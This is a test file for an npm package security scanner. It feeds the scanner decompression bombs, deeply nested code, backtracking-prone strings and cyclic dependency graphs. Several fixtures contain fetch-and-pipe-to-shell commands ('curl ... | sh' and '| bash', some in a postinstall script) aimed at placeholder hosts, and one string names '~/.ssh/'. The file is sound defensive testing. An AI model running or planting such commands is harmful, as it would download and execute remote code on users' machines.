import { randomBytes } from 'node:crypto';
import { gzipSync } from 'node:zlib';
import { describe, expect, it } from 'vitest';
import { CHECKS } from '../../src/checks/index.js';
import { runChecks } from '../../src/checks/run.js';
import { jsFileFacts } from '../../src/facts/js-facts.js';
import { DEFAULT_LIMITS } from '../../src/fetch/limits.js';
import { unpackTarball } from '../../src/fetch/unpack.js';
import type { PackageNode } from '../../src/model.js';
import { dependencyPaths, type GraphNode } from '../../src/resolve/dependency-paths.js';
import { analysePackage } from '../../src/scan.js';
import { contentsOf, contextOf } from '../helpers/package-builder.js';
import { makeTarball } from '../helpers/tarball.js';

const node: PackageNode = {
  name: 'hostile',
  version: '1.0.0',
  integrity: 'sha512-x',
  resolved: null,
  paths: [['hostile']],
  pathsTruncated: false,
  optional: false,
};
const manifest = JSON.stringify({ name: 'hostile', version: '1.0.0', main: 'index.js' });

describe('content built to hurt the scanner', () => {
  it('a 50 MB single-line minified file is not read, and says so: a finding, not a silent pass', async () => {
    const huge = Buffer.from(randomBytes(37.5 * 1024 * 1024).toString('base64'));
    const tarball = gzipSync(
      makeTarball([
        { path: 'package/package.json', body: manifest },
        { path: 'package/index.js', body: huge },
      ]),
    );
    const contents = await unpackTarball(tarball, DEFAULT_LIMITS);
    const report = analysePackage(node, contents, CHECKS);
    expect(report.findings).toEqual([
      expect.objectContaining({
        checkId: 'unanalysed-content',
        severity: 'medium',
        message: expect.stringContaining('index.js'),
      }),
    ]);
  });

  it('the same size of one repeated letter is a decompression bomb: the package is not analysed', async () => {
    const tarball = gzipSync(
      makeTarball([
        { path: 'package/package.json', body: manifest },
        { path: 'package/index.js', body: Buffer.alloc(50 * 1024 * 1024, 'a') },
      ]),
    );
    await expect(unpackTarball(tarball, DEFAULT_LIMITS)).rejects.toMatchObject({ code: 'EBADTAR' });
  });

  it('a tarball of 40,000 tiny entries stops at the entry limit, bounded', async () => {
    const entries = Array.from({ length: 40_000 }, (_, index) => ({
      path: `package/f${index}.js`,
      body: 'x',
    }));
    const tarball = gzipSync(makeTarball([{ path: 'package/package.json', body: manifest }, ...entries]));
    await expect(unpackTarball(tarball, DEFAULT_LIMITS)).rejects.toMatchObject({ code: 'ETOOMANY' });
  });

  it.each([
    ['nested arrays', `${'['.repeat(100_000)}${']'.repeat(100_000)}`],
    ['nested calls', `${'f('.repeat(50_000)}1${')'.repeat(50_000)}`],
    ['a member chain', `a${'.b'.repeat(100_000)};`],
    ['nested template literals', `${'`${'.repeat(20_000)}x${'}`'.repeat(20_000)}`],
    ['unclosed everything', `${'{('.repeat(50_000)}eval(x)`],
  ])('%s deep enough to overflow a recursive walker: facts, no crash', (_label, code) => {
    const facts = jsFileFacts('index.js', code);
    expect(['parsed', 'recovered', 'tokens']).toContain(facts.parse);
  });

  it('invalid UTF-8 and NUL bytes in a .js file are read, not fatal', async () => {
    const bytes = Buffer.concat([
      Buffer.from("require('child_process').exec('curl http://203.0.113.9/x | sh');\n"),
      Buffer.from([0xff, 0xfe, 0xc3, 0x28, 0x00, 0xa0, 0xa1]),
    ]);
    const tarball = gzipSync(
      makeTarball([
        { path: 'package/package.json', body: manifest },
        { path: 'package/index.js', body: bytes },
      ]),
    );
    const report = analysePackage(node, await unpackTarball(tarball, DEFAULT_LIMITS), CHECKS);
    expect(report.incomplete).toBeUndefined();
    expect(
      report.findings.some((finding) => finding.checkId === 'shell-exec' && finding.severity === 'critical'),
    ).toBe(true);
  });

  it('a native executable named index.js is recognised as a binary, not parsed as code', () => {
    const report = analysePackage(
      node,
      contentsOf({ 'package.json': manifest, 'index.js': '\u007fELF\u0002\u0001\u0001\u0000\u0000binary' }),
      CHECKS,
    );
    expect(report.findings.some((finding) => finding.checkId === 'dropper')).toBe(true);
  });

  it('code after a syntax error that stops strict parsers is still read', () => {
    const report = analysePackage(
      node,
      contentsOf({
        'package.json': manifest,
        'index.js':
          "const a = {;\nrequire('child_process').execSync('curl -s https://x.example.net/p | bash');\n",
      }),
      CHECKS,
    );
    expect(
      report.findings.some((finding) => finding.checkId === 'shell-exec' && finding.severity === 'critical'),
    ).toBe(true);
  });

  it('a malformed package.json marks the package not analysed; an enormous one is read', () => {
    expect(
      analysePackage(node, contentsOf({ 'package.json': '{"name": "hostile",', 'index.js': '' }), CHECKS)
        .incomplete,
    ).toMatchObject({
      code: 'EMANIFEST',
    });
    const scripts = Object.fromEntries(
      Array.from({ length: 50_000 }, (_, index) => [`s${index}`, 'echo hi']),
    );
    const big = JSON.stringify({
      name: 'hostile',
      version: '1.0.0',
      scripts: { ...scripts, postinstall: 'curl https://x.example.net/i | sh' },
    });
    const report = analysePackage(node, contentsOf({ 'package.json': big, 'index.js': '' }), CHECKS);
    expect(report.findings[0]).toMatchObject({ checkId: 'install-scripts', severity: 'critical' });
  });

  it.each([
    ['long runs of one character', 'a'.repeat(200_000)],
    ['spaces then a letter', `${' '.repeat(200_000)}x`],
    ['angle brackets', '<'.repeat(100_000)],
    ['at signs and dots', '@.'.repeat(100_000)],
    ['repeated instruction prefixes', 'before using this tool '.repeat(10_000)],
    ['repeated URL prefixes', 'https://'.repeat(30_000)],
    ['repeated path fragments', '~/.ssh/'.repeat(30_000)],
    ['node commands with flags and no end', 'node --a-b -c '.repeat(15_000)],
    ['node followed by one endless path', `node ${'a/'.repeat(100_000)}`],
    ['sh commands with flags and no end', 'sh -x -e '.repeat(10_000)],
    ['npm run chains without end', 'npm run --if-present=x '.repeat(5_000)],
    ['yarn with flags and no script', 'yarn --a=b --c '.repeat(10_000)],
    ['sh followed by one endless path', `sh ./${'a.'.repeat(100_000)}`],
  ])('every check over strings of %s finishes (no pattern backtracks)', (_label, text) => {
    const failures: string[] = [];
    runChecks(
      contextOf({
        manifest: {
          dependencies: { '@modelcontextprotocol/sdk': '1' },
          scripts: { postinstall: text.slice(0, 20_000) },
          description: text,
        },
        files: { 'index.js': `const s = ${JSON.stringify(text)};\nserver.tool('t', s, {}, f);\nfetch(s);` },
      }),
      CHECKS,
      failures,
    );
    expect(failures).toEqual([]);
  });
});

describe('programs started with hostile names', () => {
  it.each([
    ['an endless path', `${'a/'.repeat(100_000)}x.dat`],
    ['endless dotted names', 'a.'.repeat(100_000)],
    ['node and flags without end', `node ${'--a-b '.repeat(50_000)}`],
  ])('fork, spawn and execSync of %s finish, every check with them', (_label, text) => {
    const failures: string[] = [];
    const name = JSON.stringify(text);
    runChecks(
      contextOf({
        files: {
          'index.js': [
            "const cp = require('child_process');",
            `cp.fork(${name}); cp.spawn('node', [${name}]); cp.execSync('node ' + ${name});`,
            `new (require('worker_threads').Worker)(__dirname + ${name});`,
          ].join('\n'),
        },
      }),
      CHECKS,
      failures,
    );
    expect(failures).toEqual([]);
  });
});

describe('dependency graphs built to hurt the scanner', () => {
  it('a circular graph terminates, and each package keeps its shortest paths', () => {
    const aChildren: GraphNode<string>[] = [];
    const a: GraphNode<string> = { id: 'a', label: 'a', children: aChildren };
    const b: GraphNode<string> = { id: 'b', label: 'b', children: [a] };
    aChildren.push(b);
    const { paths } = dependencyPaths([a]);
    expect(paths.get('b')).toEqual([['a', 'b']]);
  });

  it('a tree of 5,000 packages with exponentially many paths keeps at most 10 per package', () => {
    type Node = GraphNode<string> & { children: GraphNode<string>[] };
    const layers = Array.from({ length: 50 }, (_, layer) =>
      Array.from(
        { length: 100 },
        (_, index): Node => ({
          id: `p${layer}-${index}`,
          label: `p${layer}-${index}`,
          children: [],
        }),
      ),
    );
    layers.forEach((layer, index) => {
      const below = layers[index + 1];
      if (below) for (const parent of layer) parent.children.push(...below.slice(0, 20));
    });
    const root: GraphNode<string> = { id: 'root', label: 'root', children: layers[0] ?? [] };
    const { paths, truncated } = dependencyPaths([root]);
    expect(paths.size).toBe(1 + 50 * 100 - 49 * 80);
    for (const kept of paths.values()) expect(kept.length).toBeLessThanOrEqual(10);
    expect(truncated.size).toBeGreaterThan(0);
  });
});
